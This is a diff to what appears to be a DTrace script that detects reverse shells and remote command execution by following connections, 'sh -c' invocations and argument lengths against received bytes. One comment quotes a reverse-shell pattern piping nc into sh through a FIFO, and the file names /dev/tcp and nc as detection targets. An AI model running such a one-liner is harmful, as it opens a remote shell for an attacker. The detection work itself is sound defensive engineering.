@@ -21,8 +21,6 @@ triage:
 false_positives:
   - inetd, xinetd and systemd's Accept=yes start a service with the accepted connection; one that reads it and starts two further
     programs with all of it is told
-  - scripts that talk by /dev/tcp, and again and again have one program write to the connection what another one, which they started when
-    something had come, wrote
   - programs that are made to run others on a connection of theirs, which is what this is about (runners of build jobs, agents that
     take commands from a server, telnetd)
 blind_spots:
@@ -82,20 +80,16 @@ uintptr_t named[uintptr_t];
 uintptr_t heard[pid_t];
 uint64_t heardAt[pid_t];
 int heardBytes[pid_t];
-/* By connection: how often a shell was given a command as long as what had come, how often one of another length, and the length of the last. */
+/* By connection: how often a shell was given a command as long as what had come, how often one of another length; how many programs in a row had,
+   without a shell, an argument line of such a length, each of another one; of both the last length, and by how much it was less than what had
+   come, which does not change. */
 int commands[uintptr_t];
 int others[uintptr_t];
+int row[uintptr_t];
 int length[uintptr_t];
-/* ... and the program that was started last when something had come, with a pipe to write to and none to read; the one before that another
-   followed that has the connection as its standard output; how many different ones such followed; and how many when they had ended. */
-string step[uintptr_t];
-string stepped[uintptr_t];
-int steps[uintptr_t];
-int done[uintptr_t];
-uintptr_t stepOf[pid_t];
-uint64_t stepEnded[uintptr_t];
-/* When a process that a hearer made was made. */
-uint64_t born[pid_t];
+int less[uintptr_t];
+int rowLength[uintptr_t];
+int rowLess[uintptr_t];
 /* ... and the channel that its bytes are written to. */
 uintptr_t passes[uintptr_t];
 /* By channel: the shell that reads it, and when that made a process last; by process the channel. */
@@ -107,6 +101,7 @@ pid_t hop[uintptr_t];
 uintptr_t served[pid_t];
 this int length;
 this int fits;
+this int less;
 
 /* Who made the connection: TCP_SYN_SENT is 2. */
 socket:::state-change
@@ -114,6 +109,23 @@ socket:::state-change
 {
 	outgoing[args[0]->so_address] = 1;
 	accepted[args[0]->so_address] = 0;
+}
+
+/* What was known of another connection of the same address: its end may be among what was lost. TCP_SYN_RECV is 3. */
+socket:::state-change
+/arg2 == 2 || arg2 == 3/
+{
+	commands[args[0]->so_address] = 0;
+	others[args[0]->so_address] = 0;
+	row[args[0]->so_address] = 0;
+	length[args[0]->so_address] = 0;
+	rowLength[args[0]->so_address] = 0;
+	orders[args[0]->so_address] = 0;
+	writers[args[0]->so_address] = 0;
+	programs[args[0]->so_address] = 0;
+	uses[args[0]->so_address] = 0;
+	own[args[0]->so_address] = 0;
+	holder[args[0]->so_address] = 0;
 }
 
 /* A datagram socket that has one at its other end is a connection, too. */
@@ -136,9 +148,6 @@ socket:::accept
 	accepted[args[0]->so_address] = 1;
 	/* A datagram socket that was here before, which tells no end of its own. */
 	outgoing[args[0]->so_address] = 0;
-	uses[args[0]->so_address] = 0;
-	own[args[0]->so_address] = 0;
-	holder[args[0]->so_address] = 0;
 }
 
 /*
@@ -221,24 +230,13 @@ proc:::exit
 	reads[pid] = 0;
 }
 
-/* A shell that has a program send what others wrote, each of which it started when something had come. */
+/* A shell that has a program (tee) send what others wrote, whose argument lines were as long as what had come. */
 socket:::inherited
 /outgoing[args[0]->so_address] && arg2 == 1 && own[args[0]->so_address] == 2 && holder[args[0]->so_address] == pid
-    && heard[pid] == args[0]->so_address && step[args[0]->so_address] != ""/
+    && heard[pid] == args[0]->so_address && row[args[0]->so_address] > 1/
 {
-	steps[args[0]->so_address] += step[args[0]->so_address] != stepped[args[0]->so_address];
-	done[args[0]->so_address] += step[args[0]->so_address] != stepped[args[0]->so_address] && stepEnded[args[0]->so_address] != 0
-	    && stepEnded[args[0]->so_address] < born[pid];
-	stepped[args[0]->so_address] = step[args[0]->so_address];
-	step[args[0]->so_address] = "";
-	this->is = 1;
-}
-
-socket:::inherited
-/this->is && (done[args[0]->so_address] > 1 || steps[args[0]->so_address] > 2)/
-{
-	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started after %s, when something had come",
-	    execname, args[0]->so_raddr, args[0]->so_rport, stepped[args[0]->so_address]);
+	finding("%s has the connection to %s port %d, which was made from here, as its standard output, and was started after %d programs whose arguments had come",
+	    execname, args[0]->so_raddr, args[0]->so_rport, row[args[0]->so_address]);
 }
 
 socket:::receive
@@ -331,25 +329,25 @@ proc:::exec-success
 /heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && strstr(curpsinfo->pr_psargs, "sh -c ") != NULL/
 {
 	this->length = strlen(strstr(curpsinfo->pr_psargs, "sh -c ")) - 6;
-	this->fits = heardBytes[pid] - this->length >= 0 && heardBytes[pid] - this->length <= 2;
-	commands[heard[pid]] += this->fits && length[heard[pid]] != this->length;
+	this->less = heardBytes[pid] - this->length;
+	this->fits = this->less >= 0 && this->less <= 2;
+	commands[heard[pid]] = !this->fits || length[heard[pid]] == this->length ? commands[heard[pid]] :
+	    commands[heard[pid]] == 0 || less[heard[pid]] == this->less ? commands[heard[pid]] + 1 : 1;
 	others[heard[pid]] += !this->fits;
 	length[heard[pid]] = this->length;
+	less[heard[pid]] = this->less;
 }
 
 proc:::exec-success
-/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && args[2] != 0 && (args[1] == 0 || (args[1] & 1) == 1)/
+/heardBytes[pid] > 0 && timestamp - heardAt[pid] < 1000000000 && strstr(curpsinfo->pr_psargs, "sh -c ") == NULL/
 {
-	step[heard[pid]] = execname;
-	stepOf[pid] = heard[pid];
-	stepEnded[heard[pid]] = 0;
-}
-
-proc:::exit
-/stepOf[pid] != 0/
-{
-	stepEnded[stepOf[pid]] = timestamp;
-	stepOf[pid] = 0;
+	this->length = strlen(curpsinfo->pr_psargs);
+	this->less = heardBytes[pid] - this->length;
+	this->fits = this->less >= 0 && this->less <= 2;
+	row[heard[pid]] = !this->fits ? 0 : row[heard[pid]] != 0 && rowLess[heard[pid]] != this->less ? 1 :
+	    row[heard[pid]] + (rowLength[heard[pid]] != this->length);
+	rowLength[heard[pid]] = this->length;
+	rowLess[heard[pid]] = this->less;
 }
 
 /* The subshell of `$(…)`. */
@@ -360,13 +358,11 @@ proc:::create
 	heardAt[arg1] = heardAt[pid];
 	heardBytes[arg1] = heardBytes[pid];
 	heardBytes[pid] = 0;
-	born[arg1] = timestamp;
 }
 
 proc:::exit
 /heard[pid]/
 {
-	born[pid] = 0;
 	heard[pid] = 0;
 	heardAt[pid] = 0;
 	heardBytes[pid] = 0;
@@ -452,6 +448,15 @@ socket:::relayed
 	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]]);
 }
 
+/* ... and a program is between that makes something else of the orders. */
+socket:::relayed
+/this->is && outgoing[args[0]->so_address] && this->input != 0 && fed[this->input] == 0 && isShell[args[3]] && started[args[3]] > 1
+    && input[this->input] != 0 && fed[input[this->input]] != 0 && fed[input[this->input]] != args[0]->so_address && made[input[this->input]]/
+{
+	finding("%s sends to %s port %d, on a connection that was made from here, what %s (process %d) answers to what %s makes of what comes by another",
+	    execname, args[0]->so_raddr, args[0]->so_rport, name[args[3]], program[args[3]], name[this->input]);
+}
+
 /*
  * A program was started when something had come, and all that is sent is what it wrote: a shell, or one that was given no input, which would be
  * what had come. Its end of a line may become another one. What fills buffers of pages is as long as any other (psql's \copy from program).
@@ -467,11 +472,13 @@ socket:::relayed
 
 /* `sh -c` of what came, again and again: who does that is told when it asks for more. */
 socket:::receive
-/commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address] && heard[pid] == args[0]->so_address/
+/heard[pid] == args[0]->so_address && (row[args[0]->so_address] > 2 ||
+    commands[args[0]->so_address] > 1 && commands[args[0]->so_address] > others[args[0]->so_address])/
 {
-	finding("%s has a shell run what %s sends, on a connection that %s port %d: %d commands were as long as what had come", execname,
+	finding("%s runs what %s sends, on a connection that %s port %d: %d commands were as long as what had come", execname,
 	    args[0]->so_raddr, outgoing[args[0]->so_address] ? "was made from here to its" : "it made to",
-	    outgoing[args[0]->so_address] ? args[0]->so_rport : args[0]->so_lport, commands[args[0]->so_address]);
+	    outgoing[args[0]->so_address] ? args[0]->so_rport : args[0]->so_lport,
+	    row[args[0]->so_address] > 2 ? row[args[0]->so_address] : commands[args[0]->so_address]);
 }
 
 /* `(echo; cat fifo) | nc ADDRESS PORT | sh > fifo`: nobody tells who reads the named pipe, but the shell ran a program just before. */
@@ -499,13 +506,9 @@ socket:::state-change
 /arg2 == 7/
 {
 	commands[args[0]->so_address] = 0;
+	row[args[0]->so_address] = 0;
 	others[args[0]->so_address] = 0;
 	length[args[0]->so_address] = 0;
-	step[args[0]->so_address] = "";
-	stepped[args[0]->so_address] = "";
-	steps[args[0]->so_address] = 0;
-	done[args[0]->so_address] = 0;
-	stepEnded[args[0]->so_address] = 0;
 	passes[args[0]->so_address] = 0;
 	outgoing[args[0]->so_address] = 0;
 	named[args[0]->so_address] = 0;
